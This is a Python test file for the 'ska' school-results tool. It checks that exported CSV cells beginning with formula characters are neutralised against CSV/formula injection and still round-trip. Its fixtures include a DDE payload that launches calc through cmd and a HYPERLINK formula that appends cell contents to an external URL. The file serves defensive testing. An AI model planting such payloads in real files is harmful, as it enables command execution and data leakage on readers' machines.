"""CSV written by ska cannot attack its reader (OWASP: CSV or formula injection).

A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return runs as a
formula when a rektor opens the file in Excel or LibreOffice. ska writes such a cell with
a leading `'` and reads the `'` away again, so files round-trip; numbers are untouched.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st
from pydantic import ValidationError

from ska.load.csvtable import FORMULA_START, neutralise, parse_references, parse_results, restore
from ska.model.results import ReferenceRow, ResultRow
from ska.results.importing import import_results
from ska.results.resultfiles import render_rows
from ska.validate.run import validate_repository
from tests.conftest import write

EXAMPLES = [
    ("=SUMMA(A1:A9)", "'=SUMMA(A1:A9)"),
    (
        '=HYPERLINK("http://example.com/?"&A1;"Klicka")',
        '\'=HYPERLINK("http://example.com/?"&A1;"Klicka")',
    ),
    ("+46 321 59 50 00", "'+46 321 59 50 00"),
    ("-åk 9", "'-åk 9"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("'=1", "''=1"),  # already marked by someone: kept exactly
    ("''-x", "'''-x"),
    # numbers stay numbers
    ("-2", "-2"),
    ("-3,5", "-3,5"),
    ("-3.5", "-3.5"),
    ("+5", "+5"),
    ("-1e-05", "-1e-05"),
    ("-.5", "-.5"),
    # text that cannot run
    ("åk 9", "åk 9"),
    ("'90-talet", "'90-talet"),
    ("Läsflyt = bra", "Läsflyt = bra"),
    ("", ""),
    ("-", "'-"),
]


@pytest.mark.parametrize(("cell", "written"), EXAMPLES)
def test_cells_as_written_and_read(cell: str, written: str) -> None:
    assert len(EXAMPLES) == 21
    assert neutralise(cell) == written
    assert restore(written) == cell


def _numeric(cell: str) -> bool:
    """A number as a spreadsheet reads it: ASCII digits, a sign, a decimal point or comma
    and an exponent, and nothing else."""
    if not cell or any(c not in "0123456789+-.,eE" for c in cell):
        return False
    try:
        float(cell.replace(",", ".", 1))
    except ValueError:
        return False
    return True


cells = st.text(st.sampled_from("=+-@\t\r'0123456789,.eE åkx\"|;_\u0663"), max_size=12) | st.text(
    max_size=12
)


@given(cells)
def test_every_cell_round_trips(cell: str) -> None:
    assert restore(neutralise(cell)) == cell


@given(cells)
def test_no_written_text_cell_starts_a_formula(cell: str) -> None:
    written = neutralise(cell)
    assert written[:1] not in FORMULA_START or _numeric(written)
    if _numeric(cell):
        assert written == cell  # a number is never turned into text


@given(cells)
def test_a_cell_without_the_mark_reads_as_written(cell: str) -> None:
    assume(not cell.startswith("'"))
    assert restore(cell) == cell


# --- whole files ------------------------------------------------------------------------

texts = st.builds(
    lambda start, rest: start + rest,
    st.sampled_from(["=", "+", "-", "@", "'=", "", "\t=", "-åk "]),
    st.text(st.sampled_from("ABC1(),;\"' =+-åäö|!"), min_size=1, max_size=10),
)


@st.composite
def result_rows(draw: st.DrawFn) -> list[ResultRow]:
    rows = []
    for _ in range(draw(st.integers(1, 6))):
        data: dict[str, object] = {
            "mått": draw(texts),
            "termin": draw(st.sampled_from(["ht2025", "vt2026"])),
            "grupp": draw(texts),
            "kön": draw(st.sampled_from(["flickor", "pojkar", "alla"])),
            "totalt": draw(st.integers(0, 500)),
            "värde": draw(st.integers(-99999, 99999)) / 100,
        }
        if draw(st.booleans()):
            data["tillfälle"] = draw(texts)
        if draw(st.booleans()):
            data["ämne"] = draw(texts)
        try:
            rows.append(ResultRow.model_validate(data))
        except ValidationError:
            continue
    assume(rows)
    return rows


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@given(result_rows())
def test_written_tables_read_back_as_the_same_rows(rows: list[ResultRow]) -> None:
    text = render_rows(rows)
    assert all(c[:1] not in FORMULA_START or _numeric(c) for c in _cells(text))
    table, problems = parse_results(text, "units/x/2025-26/resultat/t.csv")
    assert problems == []
    assert table is not None
    assert sorted(table.rows, key=repr) == sorted(rows, key=repr)
    assert render_rows(table.rows) == text  # and written again, the same bytes


def test_a_reference_table_round_trips() -> None:
    row = ReferenceRow.model_validate(
        {"jämförelse": "=riket", "mått": "@andel", "termin": "vt2026", "värde": "-3.5"}
    )
    text = render_rows([row])
    assert text == "jämförelse,mått,termin,grupp,kön,värde\n'=riket,'@andel,vt2026,alla,alla,-3.5\n"
    table, problems = parse_references(text, "plans/jämförelser/t.csv")
    assert problems == []
    assert table is not None
    assert table.rows == [row]


MAPPING = """\
namn: Export med formler
filnamn: formler
avgränsare: ";"
kolumner:
  enhet: Skolenhet
  mått: Mått
  termin: Termin
  grupp: Grupp
  kön: Kön
  totalt: Antal elever
  värde: Förändring
"""
TARGET = "units/testskolan/2025-26/resultat/formler.csv"


def test_an_import_of_formulas_writes_text_a_spreadsheet_will_not_run(repo: Path) -> None:
    """An export (or an attacker) with formulas in its text: the imported file shows them
    as text in Excel, reads back as the same text in ska, and a new import of the same
    export gives the same bytes."""
    write(repo, "plans/import/formler.yaml", MAPPING)
    source = write(
        repo.parent,
        "export.csv",
        "Skolenhet;Mått;Termin;Grupp;Kön;Antal elever;Förändring\n"
        'Testskolan;"=HYPERLINK(""http://example.com"";""Klicka"")";vt2026;@åk 3;Totalt;41;-3,5\n'
        "Testskolan;+Trygghet;vt2026;-åk 3;Flickor;20;-2\n"
        "Testskolan;'=redan markerad;vt2026;åk 3;Pojkar;21;4,25\n",
    )
    result = import_results(repo, "plans/import/formler.yaml", source)
    assert result.findings == []
    assert result.written == [TARGET]
    written = (repo / TARGET).read_bytes()
    assert written.decode("utf-8") == (
        "mått,termin,grupp,kön,totalt,värde\n"
        "'+Trygghet,vt2026,'-åk 3,flickor,20,-2\n"
        '"\'=HYPERLINK(""http://example.com"";""Klicka"")",vt2026,\'@åk 3,alla,41,-3.5\n'
        "'=redan markerad,vt2026,åk 3,pojkar,21,4.25\n"
    )
    table, problems = parse_results(written.decode("utf-8"), TARGET)
    assert problems == []
    assert table is not None
    assert sorted(r.measure for r in table.rows) == [
        "+Trygghet",
        '=HYPERLINK("http://example.com";"Klicka")',
        "=redan markerad",
    ]
    assert sorted(r.group for r in table.rows) == ["-åk 3", "@åk 3", "åk 3"]
    assert import_results(repo, "plans/import/formler.yaml", source).findings == []
    assert (repo / TARGET).read_bytes() == written
    found = validate_repository(repo, [repo / TARGET], rules=False).findings
    assert found == []
